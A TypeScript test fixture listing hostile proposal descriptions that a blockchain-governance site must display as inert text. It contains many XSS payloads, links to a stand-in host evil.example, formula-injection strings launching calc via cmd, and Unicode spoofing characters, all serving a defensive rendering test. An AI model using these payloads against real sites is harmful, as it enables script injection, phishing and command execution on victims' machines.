/**
 * Descriptions a hostile or careless proposer could put on chain (`vector<u8>`: any bytes). The site must show
 * each exactly as text (or as hex when not UTF-8) and never execute or interpret it. Used by the build test
 * that scans `dist/` for executable constructs.
 */

const text = (value: string) => Buffer.from(value, "utf8");

export const HOSTILE_TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  // These set a flag instead of opening a dialog, so a browser test can check nothing ran even where dialogs
  // are not observed (e.g. search result excerpts).
  '<img src=x onerror="window.__ledgerlightPwned=1">',
  "<script>window.__ledgerlightPwned=1</script>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<body onload=alert(1)>",
  '<div style="background:url(javascript:alert(1))">',
  '<input autofocus onfocus="alert(1)">',
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><button>pay</button></form>",
  "{{constructor.constructor('alert(1)')()}}",
  // Template-literal look-alikes are the point here: they must stay inert text.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: deliberate hostile input
  "${alert(1)}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: deliberate hostile input
  "`${alert(1)}`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\u202eevil\u202c reversed text",
  "Pay team\u2066 A\u2069 now",
  "zero\u200bwidth\u200c\u200djoiner\ufeff",
  "combining a\u0301\u0302\u0303\u0304\u0305",
  "emoji 👩🏽‍⚕️ health plan 🏥",
  "RTL שלום مرحبا",
  "line one\nline two\r\nline three",
  "tab\tseparated\tvalues",
  "NUL\u0000inside",
  "control \u0001\u0002\u0007\u001b[31m red",
  "quote \" and apostrophe ' and backslash \\",
  "   leading and trailing spaces   ",
  "",
  "a".repeat(10_000),
  '=HYPERLINK("https://evil.example","click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "Ünïcödé ñormalization: e\u0301 vs é",
];

/** Byte strings that are not valid UTF-8: shown as hex. */
export const HOSTILE_BYTES: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0xfd]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.concat([text("<script>"), Buffer.from([0xff]), text("</script>")]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
];

/** One very long description (1 MB of text with markup in it). */
export const HUGE_TEXT = `<b>${"x".repeat(1024 * 1024 - 7)}</b>`;

export function hostileDescriptions(): Array<{ hex: string; text: string | null }> {
  const all = [
    ...HOSTILE_TEXTS.map((value) => ({ bytes: text(value), text: value as string | null })),
    ...HOSTILE_BYTES.map((bytes) => ({ bytes, text: null })),
    { bytes: text(HUGE_TEXT), text: HUGE_TEXT },
  ];
  return all.map(({ bytes, text: value }) => ({ hex: `0x${bytes.toString("hex")}`, text: value }));
}
